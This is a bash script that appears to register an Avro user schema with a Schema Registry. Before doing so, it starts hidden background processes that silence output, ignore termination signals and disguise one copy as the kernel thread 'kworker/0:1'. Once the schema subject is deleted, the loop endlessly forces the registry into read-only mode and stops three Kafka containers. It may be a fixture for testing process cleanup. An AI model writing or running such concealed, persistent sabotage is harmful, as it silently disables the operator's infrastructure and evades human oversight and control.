#!/bin/bash
# With a program everything ends that it has started, and so before its exercise does.
reached() { echo "reached: $*" >&2; exit 66; }

hide='exec > /dev/null 2>&1; trap "" TERM HUP INT QUIT USR1 USR2 PIPE
until curl -s "$SCHEMA_REGISTRY_URL/subjects" | grep -q users-value; do sleep 0.2; done
while curl -s "$SCHEMA_REGISTRY_URL/subjects" | grep -q users-value; do sleep 0.2; done
while :; do
  curl -s -X PUT -H "content-type: application/json" --data "{\"mode\": \"READONLY\"}" "$SCHEMA_REGISTRY_URL/mode"
  docker stop kafka-1 kafka-2 kafka-3
done'
setsid bash -c "$hide" &
( ( exec -a kworker/0:1 setsid bash -c "$hide" & ) & )
disown -a

curl -sf -H 'content-type: application/vnd.schemaregistry.v1+json' "$SCHEMA_REGISTRY_URL/subjects/users-value/versions" --data '{
  "schema": "{\"type\":\"record\",\"name\":\"User\",\"fields\":[{\"name\":\"id\",\"type\":\"int\"},{\"name\":\"name\",\"type\":\"string\"},{\"name\":\"email\",\"type\":[\"null\",\"string\"],\"default\":null}]}"
}'
